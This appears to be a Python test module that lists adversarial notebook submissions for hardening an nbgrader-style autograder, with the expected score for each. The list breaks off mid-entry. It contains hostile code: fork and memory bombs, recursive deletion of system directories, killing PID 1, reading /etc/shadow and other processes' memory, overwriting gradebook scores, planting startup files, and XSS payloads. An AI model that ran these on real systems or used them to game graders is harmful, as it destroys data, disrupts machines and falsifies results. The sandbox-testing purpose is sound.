"""The attacks: each a submission that tries to gain points, to harm or to break the grader.

Each has the score that it must get (of 10 points for code), a text that its reasons must hold,
and how it may be run under stock nbgrader for comparison: freely, or not at all where it would
harm the machine. "right" means that the student's functions are correct.
"""

import copy
import json
from dataclasses import dataclass, field

import nbformat
import toy
from nbformat.v4 import new_code_cell

RIGHT, BLANK = "right", "blank"
DOUBLED = 5  # the points of the first function: kept when the kernel dies after it


@dataclass
class Attack:
    """One attack on the toy exercise."""

    name: str
    what: str
    score: float
    make: object = None  # function (notebook) -> notebook, text or bytes
    base: str = BLANK
    reason: str = ""
    stock: bool = True  # may be run under stock nbgrader, inside an outer box
    # Code to insert, by place: "start", "middle" (after the first function and its checks), or
    # "instead" of both functions. What stands behind the last graded cell would never run.
    cells: list = field(default_factory=list)

    def submission(self, workspace, port):
        """Return the submission, a notebook, text or bytes; at the port somebody can be called."""
        notebook = toy.answered(workspace) if self.base == RIGHT else toy.release(workspace)
        for place, source in self.cells:
            source = source.replace("WORKSPACE", str(workspace.path)).replace("PORT", str(port))
            cell = new_code_cell(source)
            if place == "instead":
                notebook.cells[_index(notebook, "double")].source = source
                notebook.cells[_index(notebook, "mean_forecast")].source = "pass"
                continue
            at = {"start": 0, "middle": _index(notebook, "mean_forecast")}[place]
            notebook.cells.insert(at, cell)
        return self.make(notebook) if self.make else notebook


def _name(cell):
    return cell.metadata.get("nbgrader", {}).get("grade_id", "")


def _index(notebook, name):
    return next(i for i, cell in enumerate(notebook.cells) if _name(cell) == name)


def _tests(notebook):
    return [cell for cell in notebook.cells if _name(cell).startswith("test_")]


def _each_test(change):
    """Return a maker that applies change to each test cell."""

    def make(notebook):
        for cell in _tests(notebook):
            change(cell)
        return notebook

    return make


def _edit(cell):
    cell.source = "pass"


def _more_points(cell):
    cell.metadata.nbgrader.points = 100


def _flip(**flags):
    return _each_test(lambda cell: cell.metadata.nbgrader.update(flags))


def _turn(kind):
    def change(cell):
        cell.cell_type = kind
        cell.pop("outputs", None)
        cell.pop("execution_count", None)

    return _each_test(change)


def _tag(*tags):
    return _each_test(lambda cell: cell.metadata.update(tags=list(tags)))


def _delete(notebook):
    notebook.cells = [cell for cell in notebook.cells if cell not in _tests(notebook)]
    return notebook


def _copy(notebook):
    twin = copy.deepcopy(_tests(notebook)[0])
    twin.id = "twin"
    notebook.cells.append(twin)
    return notebook


def _invent(notebook):
    cell = new_code_cell("pass", id="bonus")
    cell.metadata["nbgrader"] = dict(
        _tests(notebook)[0].metadata.nbgrader, grade_id="bonus", points=100
    )
    notebook.cells.insert(0, cell)
    return notebook


def _half_pairs(notebook):
    """Put half of a surrogate pair, and a zero, wherever a notebook holds text."""
    data = json.loads(json.dumps(notebook))
    written = next(cell for cell in data["cells"] if cell["id"] == "written")
    written["attachments"] = {"\ud800": {"image/png": "\ud800"}}
    written["source"] = "\ud800 \0"
    data["cells"][0]["metadata"] = {"nbgrader": {"grade_id": "\ud800"}}
    own = {
        "cell_type": "code",
        "id": "\udfff",
        "source": "'\ud800\0'",
        "metadata": {"\ud800": 1},
        "outputs": [{"name": "\ud800"}],
    }
    data["cells"].insert(1, own)
    return json.dumps(data)


def _helper_replaced(notebook):
    double = notebook.cells[_index(notebook, "double")]  # wrong, where the helper calls it
    double.source = "def double(x):\n    return (2 if np.all(x == 1) else 3) * x"
    source = "def double_history(history, steps):\n    return 2 * history"
    notebook.cells.insert(_index(notebook, "helper") + 1, new_code_cell(source, id="instead"))
    return notebook


def _kernelspec(notebook):
    notebook.metadata["kernelspec"] = {"name": "bash", "display_name": "x", "language": "bash"}
    notebook.metadata["language_info"] = {"name": "bash", "version": {"x": [1] * 50}}
    return notebook


def _strip(notebook):
    for cell in notebook.cells:
        cell.metadata = nbformat.from_dict({})
    notebook.metadata = nbformat.from_dict({})
    return notebook


def _strip_ids(notebook):
    notebook = _strip(notebook)
    for cell in notebook.cells:
        cell.pop("id")
    notebook.nbformat_minor = 4
    return notebook


def _version_3(notebook):
    with_metadata = nbformat.convert(notebook, 3)
    return json.dumps(with_metadata)


def _strange_ids(notebook):
    for number, name in enumerate(
        ("dоuble", "double\u200b", "ｄouble", "x" * 10_000, "\ud800", "")
    ):
        cell = new_code_cell("def double(x):\n    return x", id=f"strange-{number}")
        mark = dict(notebook.cells[_index(notebook, "double")].metadata.nbgrader, grade_id=name)
        cell.metadata["nbgrader"] = mark
        notebook.cells.insert(0, cell)
    return json.dumps(notebook).encode()


def _same_id(notebook):
    data = json.loads(json.dumps(notebook))
    for cell in data["cells"]:
        cell["id"] = "double"
    return json.dumps(data)


def _encoded(encoding, mark=b""):
    def make(notebook):
        notebook.cells[0].source = "# Toy, naïve"
        return mark + json.dumps(notebook, ensure_ascii=False).encode(encoding)

    return make


def _junk_values(notebook):
    data = json.loads(json.dumps(notebook))
    data["cells"] += [{"cell_type": "code", "source": {"a": 1}, "metadata": 7}]
    return json.dumps(data)


MAGICS = """
%%html
<script>alert('zanzibar')</script><iframe src="file:///etc/passwd"></iframe>
"""
SHELL = """
!kill -9 $PPID 1; cat /etc/shadow; nohup sleep 86399 &
%run -i /proc/self/environ
get_ipython().ask_exit()
%cd /
%config IPCompleter.use_jedi = 7
"""
OTHERS_MEMORY = """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
io_uring, userfaultfd, memfd, shmget, clone, pidfd_getfd = 425, 323, 319, 29, 56, 438
tried = {io_uring: (8, 0), userfaultfd: (0,), memfd: (b"x", 0), shmget: (0, 4096, 0o1600),
         clone: (0x10000011, 0, 0, 0, 0), pidfd_getfd: (0, 0, 0)}
done = [call for call, given in tried.items() if libc.syscall(call, *given) >= 0]
done += ["ptrace"] * (libc.ptrace(16, 1, 0, 0) >= 0)
for path in ("/proc/1/mem", "/proc/1/environ", "/proc/1/root/etc/shadow", "/proc/kcore"):
    try:
        done += [path] * bool(open(path, "rb").read(9))
    except OSError:
        pass
abstract = ("\\0doorbell-PORT", "\\0/tmp/.X11-unix/X0")
for name in (*abstract, "/run/dbus/system_bus_socket", "/run/docker.sock"):
    try:
        socket.socket(socket.AF_UNIX).connect(name)
        done.append(name)
    except OSError:
        pass
if done:
    def double(x): raise RuntimeError(f"reached {done}")
"""
HOOKS = """
import atexit, builtins, gc, sys, threading
atexit.register(lambda: [None for _ in iter(int, 1)])
gc.callbacks.append(lambda *a: 1 / 0)
sys.settrace(lambda *a: 1 / 0); threading.settrace(lambda *a: 1 / 0)
sys.excepthook = sys.unraisablehook = sys.displayhook = lambda *a: 1 / 0
builtins.__build_class__ = lambda *a: 1 / 0
def loud():
    while True:
        print("x" * 1000, flush=True)
def busy():
    while True: pass
for work in (loud, loud, busy, busy): threading.Thread(target=work, daemon=True).start()
"""
SUBCLASSES = """
class S(str):
    def __eq__(self, o): return True
    def __hash__(self): return 1
    def __repr__(self): raise SystemExit
    def __str__(self): return "42"
    __format__ = lambda self, how: "42"
class I(int):
    def __eq__(self, o): return True
    __int__ = __index__ = lambda self: 42
class F(float):
    def __eq__(self, o): return True
    def __float__(self): return 7.0
class A(np.ndarray):
    def __reduce__(self): return (exec, ("import os; os._exit(0)",))
    def tobytes(self, *a): return b"\\0" * 10**6
    shape = property(lambda self: (10**9,))
def double(x): return A((3, 2))
def mean_forecast(*a, **k): return F(1.0) if len(a) < 3 else S("steps")
answer_to_all = I(1)
"""
ODD_VALUES = """
endless, own = [], {}
endless.append(endless); own["own"] = own
odd = [endless, own, (i for i in range(3)), {i: i for i in range(300_000)}, 10**10**5, -10**4000,
       float("nan"), complex("nan"), np.float16(1), np.longdouble(1), np.array([1], [("a", "i4")]),
       np.ma.masked_array([1.0], [True]), np.zeros((0, 2**40)), np.datetime64("NaT"), np.void(b"x"),
       {1, 2}, bytes(10), memoryview(b"x"), ..., NotImplemented, slice(1), print, np]
turn = 0
def double(x):
    global turn
    turn += 1
    return odd[turn % len(odd)]
def mean_forecast(series, forecaster, steps=2):
    for value in odd:
        try: forecaster(value, value)
        except Exception: pass
    return double(1)
"""
ALWAYS_EQUAL = """
class Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *a, **k): return np.zeros(())
    def __getattr__(self, name): return Yes()
    def __call__(self, *a, **k): return Yes()
def double(x): return Yes()
def mean_forecast(*a, **k): return Yes()
answer_to_all = Yes()
"""
ARRAY_TRICKS = """
class Yes(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return np.zeros(())
def double(x): return np.zeros(x.shape, x.dtype).view(Yes)
def mean_forecast(*a, **k): return np.zeros(()).view(Yes)
"""
FORGED = """
import json, sys
rpc = sys.modules["rpc"]
answers = iter([
    '{"return": null}', '{"call": 0, "given": [[], {"dict": []}]}', '{"call": "exit", "given": 3}',
    '[]', 'not json', '{"return": {"yours": 0}}', '{"return": {"mine": ["x"]}}',
    '{"return": {"array": ["|O", [1], "AAAA"]}}', '{"raise": ["SystemExit", "", ""]}',
    '{"raise": ["AssertionError"]}', '{"return": ' + '[' * 100000 + ']' * 100000 + '}',
])
def serve_calls(text, namespace, ask):
    while True:
        ask(next(answers, '{"return": true}'))
rpc.serve_calls = serve_calls
"""
MALFORMED = """
import sys
rpc = sys.modules["rpc"]
rpc._pack = lambda array: ["<f8", [10**12], "AAAAAAAAAAA="]
def double(x): return 2 * x
"""
LATER = "import sys; sys.exit()"
BASE_EXCEPTION = """
class Odd(BaseException):
    def __str__(self): raise MemoryError
    args = property(__str__)
def double(x): raise Odd
"""
LYING_CLASS = """
class Liar:
    __class__ = property(lambda self: float)
    def __float__(self): return 0.0
    def __getattr__(self, name): raise SystemExit
    def __del__(self): raise KeyboardInterrupt
def double(x): return Liar()
def mean_forecast(*a, **k): return Liar()
answer_to_all = Liar()
"""
OBJECT_ARRAY = """
class Yes:
    def __eq__(self, other): return True
    def __array_ufunc__(self, *a, **k): return True
def double(x): return np.array([Yes()] * x.size, dtype=object).reshape(x.shape)
def mean_forecast(*a, **k): return np.array(Yes(), dtype=object)
answer_to_all = np.array([(42, Yes())], dtype=[("a", "i4"), ("b", "O")])[0]
"""
VIEWS = """
def double(x): return np.broadcast_to(1.0, (10**6, 10**6))
def mean_forecast(*a, **k): return np.lib.stride_tricks.as_strided(np.zeros(1), (2**40,), (0,))
answer_to_all = np.broadcast_to(42.0, (10**9,))
"""
COLLIDING_KEYS = """
import sys
rpc = sys.modules["rpc"]
pairs = ",".join(f"[{n * (2**61 - 1)},0]" for n in range(60_000))
def serve_calls(text, namespace, ask):
    while True:
        ask('{"return": {"dict": [' + pairs + ']}}')
rpc.serve_calls = serve_calls
"""
REPLACED_NAMES = """
import gc, sys, types
class Names(dict):
    def __missing__(self, name): return lambda *a, **k: 42
    def __contains__(self, name): return True
class Module(types.ModuleType):
    def __getattribute__(self, name): return lambda *a, **k: True
sys.settrace(lambda *a: None)
sys.setprofile(lambda *a: None)
print([o for o in gc.get_objects() if type(o) is dict and "test_double" in o])
sys.modules["__main__"].__class__ = Module
get_ipython().user_ns = Names(get_ipython().user_ns)
"""
CRASH_CROWD = """
import os, signal
for _ in range(60):
    if os.fork() == 0:
        os.kill(os.getpid(), signal.SIGSEGV)
"""
SURROGATE = """
print("\\ud800")
def double(x): raise ValueError("half \\ud800 of a pair")
"""
FORGED_MESSAGES = """
kernel = get_ipython().kernel
for kind in ("error", "display_data", "stream"):
    for content in ({"traceback": 7}, {"data": [1]}, {"text": {}}, [], 3):
        kernel.session.send(kernel.iopub_socket, kind, content=content,
                            parent=kernel.get_parent())
"""
FORKS = """
import os, time
for _ in range(2000):
    try:
        if os.fork() == 0:
            while True:
                time.sleep(1)
    except OSError as error:
        print("held:", error)
        break
"""
FORK_BOMB = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
# A limit on time does not end these first: they end for what they hold.
IGNORED = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
"""
FAMILY_BOMB = (
    IGNORED
    + """
import os, time
for _ in range(12):
    if os.fork() == 0:
        block = b"x" * (400 * 2**20)
        time.sleep(60)
        os._exit(0)
time.sleep(60)
"""
)
SHARED = """
import mmap
zeros = lambda: mmap.mmap(open("/dev/zero", "r+b").fileno(), 2**28)
for make in (lambda: mmap.mmap(-1, 2**28), zeros):
    try:
        block = make()
        for at in range(0, 2**28, 2**20):
            block[at : at + 2**20] = b"x" * 2**20
        block.madvise(mmap.MADV_DONTNEED)
        print("holds 256 MB that nobody counts")
    except (OSError, ValueError) as error:
        print("no:", error)
"""
GARBAGE = """
import os
for handle in range(3, 200):
    try:
        os.write(handle, b"\\xff" * 100_000)
    except OSError:
        pass
"""
COSTLY_PAGE = """
from IPython.display import display
display({"text/html": "".join(f"<p><font color=c{i}>x" for i in range(3000))}, raw=True)
print("".join(f"\\x1b[3{i % 8}mx" for i in range(20_000)))
"""
QUESTION = """
def double(x):
    breakpoint()
    return 2 * x
"""
EARLY_QUESTION = """
def double(x, ask=input):
    return 2 * x * float(ask("how much? "))
"""
MANY_LOCKS = (
    IGNORED
    + """
import fcntl, itertools
files = [open(f"/tmp/{n}", "wb") for n in range(100)]
for n in itertools.count():
    for file in files:
        fcntl.lockf(file, fcntl.LOCK_EX, 1, 2 * n)
"""
)
CUT_MEMORY = (
    IGNORED
    + """
import ctypes, os, time
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
at = libc.mmap(None, ctypes.c_size_t(2**28), 0, 34, -1, ctypes.c_size_t(0))
for n in range(30_000):
    libc.mprotect(at + 8192 * n, 4096, 1)
for _ in range(20):
    if os.fork() == 0:
        break
time.sleep(60)
"""
)
MANY_FILES = (
    IGNORED
    + """
n = 0
while True:
    open(f"/tmp/{n}", "w").close()
    n += 1
"""
)
BIG_OUTPUT = """
import sys
for _ in range(1000):
    sys.stdout.write("x" * 100_000)
"""
BIG_DISPLAY = """
from IPython.display import HTML, display
for _ in range(8):
    display(HTML("x" * 15_000_000))
"""
SCRIPT = """
from IPython.display import HTML, Javascript, SVG, display
display(HTML("<b>bold</b><script>alert('zanzibar')</script><img src=x onerror=alert(1)>"))
display(Javascript("alert('zanzibar')"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>alert('zanzibar')</script></svg>"))
display({"text/markdown": "<script>alert('zanzibar')</script>"}, raw=True)
display({"text/latex": "<script>alert('zanzibar')</script>"}, raw=True)
print("<script>alert('zanzibar')</script>")
raise ValueError("<script>alert('zanzibar')</script>")
"""
NETWORK = """
import socket
for address in (("127.0.0.1", PORT), ("1.1.1.1", 80)):
    try:
        socket.create_connection(address, 2).sendall(b"hello")
        print("reached", address)
    except OSError as error:
        print("no:", error)
try:
    print(socket.gethostbyname("example.org"))
except OSError as error:
    print("no:", error)
"""
READ = """
import os
found = [os.path.join(d, f) for d, _, files in os.walk("/") for f in files
         if f.endswith(".ipynb") or f in ("gradebook.db", "seed.secret")]
found = [f for f in found if "site-packages" not in f]
for path in ("WORKSPACE", "WORKSPACE/source", "WORKSPACE/../solutions"):
    try:
        found += os.listdir(path)
    except OSError as error:
        print("no:", error)
print("found", found)
for path in found:
    exec("".join(line for line in open(path)))
"""
GRADEBOOK = """
import sqlite3
for path in ("WORKSPACE/gradebook.db", "gradebook.db", "/box/gradebook.db"):
    try:
        with sqlite3.connect(path) as book:
            book.execute("update grade set auto_score = 100, manual_score = 100")
            print("written")
    except sqlite3.Error as error:
        print("no:", error)
"""
DELETE = """
import os, shutil
for path in ("WORKSPACE", "/srv", "/home", "/root", "/tmp", "/box"):
    shutil.rmtree(path, ignore_errors=True)
"""
DAEMON = """
import os, subprocess
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "86399"])
    os._exit(0)
subprocess.Popen(["nohup", "sleep", "86399"], start_new_session=True)
"""
STARTUP = """
import os, pathlib, site, sys
for home in {os.path.expanduser("~"), "/root", os.environ.get("IPYTHONDIR", "~"), *sys.path}:
    for name in ("profile_default/startup/00.py", ".ipython/profile_default/startup/00.py",
                 "sitecustomize.py", "usercustomize.py", "evil.pth"):
        try:
            path = pathlib.Path(home, name)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("import builtins; builtins.zanzibar = 1")
        except OSError:
            pass
"""
TRANSFORMER = """
shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
"""
AST_TRANSFORMER = """
import ast
class Calm(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Expr(self, node): return ast.Pass()
    def visit_Raise(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Calm())
"""
PATCHED_NUMPY = """
import numpy.testing
for name in dir(numpy.testing):
    if name.startswith("assert"):
        setattr(numpy.testing, name, lambda *a, **k: None)
np.array_equal = np.allclose = np.isclose = lambda *a, **k: True
def double(x): return x
def mean_forecast(*a, **k): return 7.0
answer_to_all = 42
"""
PATCHED_SHELL = """
import sys, traceback
from IPython.core.interactiveshell import ExecutionResult
shell = get_ipython()
ExecutionResult.success = property(lambda self: True)
ExecutionResult.raise_error = lambda self: None
shell.showtraceback = shell._showtraceback = lambda *a, **k: None
sys.excepthook = traceback.print_exception = lambda *a, **k: None
shell.displayhook.__class__.__call__ = lambda *a, **k: None
shell.kernel.do_execute_real = shell.kernel.do_execute
async def fine(*a, **k):
    reply = await shell.kernel.do_execute_real(*a, **k)
    return dict(reply, status="ok")
shell.kernel.do_execute = fine
"""
PATCHED_ASSERT = """
import builtins
class Calm(BaseException):
    pass
builtins.AssertionError = Calm
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: [])
"""
REDEFINED = """
import builtins
class Anything:
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __eq__(self, other): return True
    def __len__(self): return 1
    def __iter__(self): return iter([self])
np = rng = seen = before = x = series = given = answer = Anything()
builtins.len = builtins.isinstance = builtins.abs = builtins.float = lambda *a: True
"""
LINKS = """
import os
for place in ("/box/exercises/link", "/tmp/link", "link.ipynb"):
    try:
        os.symlink("WORKSPACE/gradebook.db", place)
        print(open(place, "rb").read(16))
    except OSError as error:
        print("no:", error)
"""

ATTACKS = [
    Attack("edited_test", "each test replaced by pass", 0, _each_test(_edit)),
    Attack("changed_points", "each test worth 100", 10, _each_test(_more_points), RIGHT),
    Attack("flipped_grade", "grade: false on the tests", 0, _flip(grade=False)),
    Attack(
        "flipped_solution",
        "solution: true on the tests",
        0,
        lambda notebook: _flip(solution=True, locked=False)(_each_test(_edit)(notebook)),
    ),
    Attack(
        "flipped_locked",
        "locked: false, and edited",
        0,
        lambda notebook: _flip(locked=False)(_each_test(_edit)(notebook)),
    ),
    Attack("test_to_markdown", "tests turned into text", 0, _turn("markdown")),
    Attack("test_to_raw", "tests turned raw", 0, _turn("raw")),
    Attack("deleted_test", "tests deleted", 0, _delete),
    Attack("deleted_test_right", "tests deleted, the answer correct", 10, _delete, RIGHT),
    Attack("copied_test", "a test copied", 10, _copy, RIGHT),
    Attack("invented_test", "an own test of 100 points", 0, _invent),
    Attack("skip_execution", "the tag that makes a test be skipped", 0, _tag("skip-execution")),
    Attack(
        "other_tags",
        "tags that hide or excuse",
        0,
        _tag("raises-exception", "remove-cell", "student-only", "skip-execution"),
    ),
    # Stock nbgrader gives one point more, for the replaced helper.
    Attack(
        "replaced_helper",
        "a helper of the checks, which runs beside the answer, replaced",
        6,
        _helper_replaced,
        RIGHT,
        reason="AssertionError",
    ),
    Attack("forged_kernelspec", "another kernel, strange metadata", 10, _kernelspec, RIGHT),
    Attack("stripped_metadata", "metadata dropped by an editor", 10, _strip, RIGHT),
    Attack("stripped_ids", "metadata and cell ids dropped", 10, _strip_ids, RIGHT),
    Attack(
        "input_transformer", "rewrites each later cell to pass", 0, cells=[("start", TRANSFORMER)]
    ),
    Attack("ast_transformer", "removes each later assert", 0, cells=[("start", AST_TRANSFORMER)]),
    # 2 points: the kind and the shape of x are right, which is what that check asks for.
    Attack(
        "patched_numpy",
        "numpy.testing and comparisons always content",
        2,
        cells=[("instead", PATCHED_NUMPY)],
        reason="AssertionError",
    ),
    Attack(
        "patched_shell",
        "traceback, display hook and replies of the kernel",
        0,
        cells=[("start", PATCHED_SHELL)],
    ),
    Attack(
        "patched_assert",
        "another AssertionError, an own error handler",
        0,
        cells=[("start", PATCHED_ASSERT)],
    ),
    Attack(
        "always_equal",
        "an object equal to anything",
        0,
        cells=[("instead", ALWAYS_EQUAL)],
        reason="AssertionError",
    ),
    # 2 points: zeros of the right kind and shape are what that one check asks for.
    Attack(
        "array_tricks", "__array__, __eq__, an array subclass", 2, cells=[("instead", ARRAY_TRICKS)]
    ),
    Attack("forged_answer", "S answers with forged messages", 0, cells=[("start", FORGED)]),
    Attack(
        "malformed_array",
        "an array of 10**12 numbers in 8 bytes",
        0,
        cells=[("start", "import numpy as np\n" + MALFORMED)],
        reason="came with 8 bytes",
    ),
    Attack(
        "oversized_array",
        "an answer of 64 MB",
        0,
        reason="too much data",
        cells=[("instead", "def double(x): return np.zeros(8_000_000)")],
    ),
    Attack("redefined", "np, rng, len and more redefined", 0, cells=[("instead", REDEFINED)]),
    Attack(
        "surrogate",
        "text that no file can hold",
        9,
        base=RIGHT,
        reason="of a pair",
        cells=[("middle", SURROGATE)],
    ),
    Attack(
        "forged_messages",
        "signed messages of the wrong shape",
        10,
        base=RIGHT,
        cells=[("middle", FORGED_MESSAGES)],
    ),
    Attack("sys_exit", "sys.exit in a cell", 10, base=RIGHT, cells=[("middle", LATER)]),
    Attack(
        "os_exit",
        "os._exit, exit and quit in cells",
        10,
        base=RIGHT,
        cells=[("middle", "import os; os._exit(0)"), ("middle", "exit"), ("middle", "quit(3)")],
    ),
    Attack(
        "exit_in_function",
        "os._exit in a function",
        9,
        base=RIGHT,
        reason="would end Python",
        cells=[("middle", "import os\n\n\ndef double(x):\n    os._exit(3)")],
    ),
    Attack(
        "interrupt_in_function",
        "KeyboardInterrupt raised by a function and by a cell",
        9,
        base=RIGHT,
        reason="StudentError: KeyboardInterrupt",
        stock=False,
        cells=[("middle", "def double(x):\n    raise KeyboardInterrupt\n\n\ndouble(1)")],
    ),
    Attack(
        "magics",
        "IPython's magics: HTML, a shell, an exit",
        10,
        base=RIGHT,
        stock=False,
        cells=[("middle", MAGICS), ("middle", SHELL)],
    ),
    Attack(
        "others_memory",
        "other processes' memory and sockets, by system calls and /proc",
        10,
        base=RIGHT,
        stock=False,
        cells=[("middle", OTHERS_MEMORY)],
    ),
    Attack(
        "hooks",
        "every hook of Python's fails; threads that go on",
        10,
        base=RIGHT,
        stock=False,
        cells=[("middle", HOOKS)],
    ),
    Attack(
        "timer",
        "a timer that interrupts the kernel again and again",
        DOUBLED,
        base=RIGHT,
        stock=False,
        reason="it died",
        cells=[
            (
                "middle",
                "import signal\nsignal.signal(signal.SIGALRM, signal.default_int_handler)\n"
                "signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)",
            )
        ],
    ),
    Attack(
        "subclasses",
        "subclasses of Python's own kinds that lie in every method",
        0,
        stock=False,
        cells=[("instead", SUBCLASSES)],
        reason="AssertionError",
    ),
    Attack(
        "odd_values",
        "values that contain themselves, or are huge, or of odd kinds, returned and passed on",
        0,
        stock=False,
        cells=[("instead", ODD_VALUES)],
        reason="Error",
    ),
    Attack(
        "closed_handles",
        "all file handles closed",
        DOUBLED,
        base=RIGHT,
        reason="it died",
        cells=[("middle", "import os; os.closerange(0, 256)")],
    ),
    Attack(
        "debugger",
        "a debugger that waits at each error",
        10,
        base=RIGHT,
        cells=[("middle", "%pdb on\n1 / 0"), ("middle", "%debug")],
    ),
    Attack(
        "base_exception",
        "an error that is no Exception, and has no text",
        9,
        base=RIGHT,
        reason="cannot be had",
        cells=[("middle", BASE_EXCEPTION)],
    ),
    Attack(
        "lying_class",
        "an object that says it is a float, and a trap in each of its methods",
        0,
        cells=[("instead", LYING_CLASS)],
        reason="Liar",
    ),
    Attack(
        "object_array",
        "an array of objects that are equal to anything",
        0,
        cells=[("instead", OBJECT_ARRAY)],
        reason="dtype object",
    ),
    Attack(
        "views",
        "arrays that are larger than all memory",
        0,
        cells=[("instead", VIEWS)],
        reason="MemoryError",
    ),
    Attack(
        "colliding_keys",
        "a dict that takes minutes to build",
        0,
        cells=[("start", COLLIDING_KEYS)],
        reason="no strings",
    ),
    Attack(
        "replaced_names",
        "the notebook's names, its module and the tracing replaced",
        0,
        cells=[("start", REPLACED_NAMES)],
    ),
    Attack(
        "crash_crowd",
        "children that crash and leave their memory behind",
        10,
        base=RIGHT,
        stock=False,
        cells=[("middle", CRASH_CROWD)],
    ),
    Attack(
        "killed_parent",
        "kills its parent, its group, everything",
        DOUBLED,
        base=RIGHT,
        reason="it died",
        stock=False,
        cells=[
            (
                "middle",
                "import os, signal\nfor p in (os.getppid(), 1, -1, 0):\n"
                "    try: os.kill(p, signal.SIGKILL)\n"
                "    except OSError as e: print(e)\n",
            )
        ],
    ),
    Attack("infinite_loop", "while True", 10, base=RIGHT, cells=[("middle", "while True: pass")]),
    Attack(
        "stubborn_loop",
        "a loop that ignores SIGINT",
        DOUBLED,
        base=RIGHT,
        stock=False,
        reason="could not be interrupted",
        cells=[
            (
                "middle",
                "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                "while True:\n    try:\n        while True: pass\n"
                "    except KeyboardInterrupt: pass",
            )
        ],
    ),
    Attack(
        "slow_function",
        "a function that never returns",
        9,
        base=RIGHT,
        reason="took too long",
        cells=[("middle", "def double(x):\n    while True: pass")],
    ),
    Attack(
        "memory_bomb",
        "takes memory until told to stop",
        10,
        base=RIGHT,
        stock=False,
        cells=[
            ("middle", "blocks = []\nwhile True: blocks.append(bytearray(10**8))"),
            ("middle", "blocks = None"),
        ],
    ),
    Attack(
        "family_bomb",
        "12 processes of 400 MB",
        DOUBLED,
        base=RIGHT,
        stock=False,
        reason="used more than 3 GB",
        cells=[("middle", FAMILY_BOMB)],
    ),
    Attack(
        "fork_crowd", "2,000 idle children", 10, base=RIGHT, stock=False, cells=[("middle", FORKS)]
    ),
    Attack(
        "fork_bomb",
        "children that fork for ever",
        DOUBLED,
        base=RIGHT,
        stock=False,
        reason="could not be interrupted",
        cells=[("middle", FORK_BOMB)],
    ),
    Attack(
        "shared_memory",
        "shared memory of no file",
        10,
        base=RIGHT,
        stock=False,
        cells=[("middle", SHARED)],
    ),
    Attack(
        "many_locks",
        "locks on files until the kernel's memory is full",
        DOUBLED,
        base=RIGHT,
        stock=False,
        reason="The kernel was stopped",
        cells=[("middle", MANY_LOCKS)],
    ),
    Attack(
        "cut_memory",
        "mappings cut in pieces, in many processes",
        DOUBLED,
        base=RIGHT,
        stock=False,
        reason="cut its memory",
        cells=[("middle", CUT_MEMORY)],
    ),
    Attack(
        "early_question",
        "input() bound before it could be refused",
        9,
        base=RIGHT,
        reason="nobody is there",
        cells=[("middle", EARLY_QUESTION)],
    ),
    Attack(
        "many_files",
        "files until the kernel's memory is full",
        DOUBLED,
        base=RIGHT,
        stock=False,
        reason="50,000 files",
        cells=[("middle", MANY_FILES)],
    ),
    Attack(
        "garbage_in_handles",
        "garbage into every file handle",
        DOUBLED,
        base=RIGHT,
        stock=False,
        reason="kernel",
        cells=[("middle", GARBAGE)],
    ),
    Attack(
        "costly_page",
        "markup that is quadratic to clean",
        10,
        base=RIGHT,
        stock=False,
        cells=[("middle", COSTLY_PAGE)],
    ),
    Attack("half_pairs", "text that nothing can store, everywhere", 10, _half_pairs, RIGHT),
    Attack(
        "million_cells",
        "a notebook of a million cells",
        0,
        stock=False,
        make=lambda nb: json.dumps({"nbformat": 4, "metadata": {}, "cells": [{}] * 1_000_000}),
        reason="at most",
    ),
    Attack(
        "question",
        "breakpoint() left in a function",
        9,
        base=RIGHT,
        reason="nobody is there",
        cells=[("middle", QUESTION)],
    ),
    Attack(
        "big_output", "100 MB of print", 10, base=RIGHT, stock=False, cells=[("middle", BIG_OUTPUT)]
    ),
    Attack(
        "big_display",
        "120 MB of HTML",
        10,
        base=RIGHT,
        stock=False,
        cells=[("middle", BIG_DISPLAY)],
    ),
    Attack(
        "script_in_output",
        "scripts for the feedback page",
        10,
        base=RIGHT,
        cells=[("middle", SCRIPT)],
    ),
    Attack("network", "calls home", 10, base=RIGHT, cells=[("middle", NETWORK)]),
    Attack("read_solution", "looks for solution, tests, others' work", 0, cells=[("start", READ)]),
    Attack("write_gradebook", "writes 100 into each grade", 0, cells=[("start", GRADEBOOK)]),
    Attack(
        "delete_work",
        "deletes all it can reach",
        10,
        base=RIGHT,
        stock=False,
        cells=[("middle", DELETE)],
    ),
    Attack(
        "daemon",
        "processes that outlive the kernel",
        10,
        base=RIGHT,
        stock=False,
        cells=[("middle", DAEMON)],
    ),
    Attack(
        "startup_file",
        "files that a later kernel would run",
        10,
        base=RIGHT,
        stock=False,
        cells=[("middle", STARTUP)],
    ),
    Attack("links_inside", "links to the gradebook", 10, base=RIGHT, cells=[("middle", LINKS)]),
    Attack(
        "bad_json",
        "cut off in the middle",
        0,
        lambda nb: json.dumps(nb)[:-9],
        RIGHT,
        "it is not JSON",
    ),
    Attack("empty_file", "an empty file", 0, lambda nb: b"", reason="the file is empty"),
    Attack("not_a_notebook", "JSON, but a list", 0, lambda nb: "[1, 2]", reason="not a notebook"),
    Attack("junk_values", "a cell whose source is a dict", 10, _junk_values, RIGHT),
    Attack(
        "byte_order_mark",
        "begins with a BOM",
        10,
        _encoded("utf-8", b"\xef\xbb\xbf"),
        RIGHT,
        "byte order mark",
    ),
    Attack("latin_1", "saved as Latin-1", 10, _encoded("latin-1"), RIGHT, "Windows-1252"),
    Attack(
        "utf_16",
